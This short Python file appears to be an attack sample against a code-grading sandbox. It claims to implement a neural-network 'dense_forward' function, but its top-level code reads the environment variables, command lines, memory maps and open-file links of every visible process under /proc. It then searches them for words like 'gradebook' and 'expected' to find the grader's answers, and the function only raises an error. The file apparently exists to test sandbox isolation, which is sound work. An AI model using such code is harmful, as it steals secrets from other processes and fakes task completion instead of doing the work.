"""Reads environment, memory and open files of every process it can see."""
# attacks: dense_forward, dense_backward
# %% dense_forward
import glob
import os

loot = []
for path in glob.glob("/proc/[0-9]*/*"):
    if os.path.basename(path) in ("environ", "cmdline", "maps", "mountinfo"):
        try:
            loot.append(open(path, "rb").read(10_000))
        except OSError:
            pass
for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        loot.append(os.readlink(path).encode())
    except OSError:
        pass
joined = b"\n".join(loot)
for word in (b"secret", b"gradebook", b"expected", b"submitted"):
    if word in joined:
        print("found", word)


def dense_forward(x, W, b):
    raise LookupError(f"{len(loot)} files read")
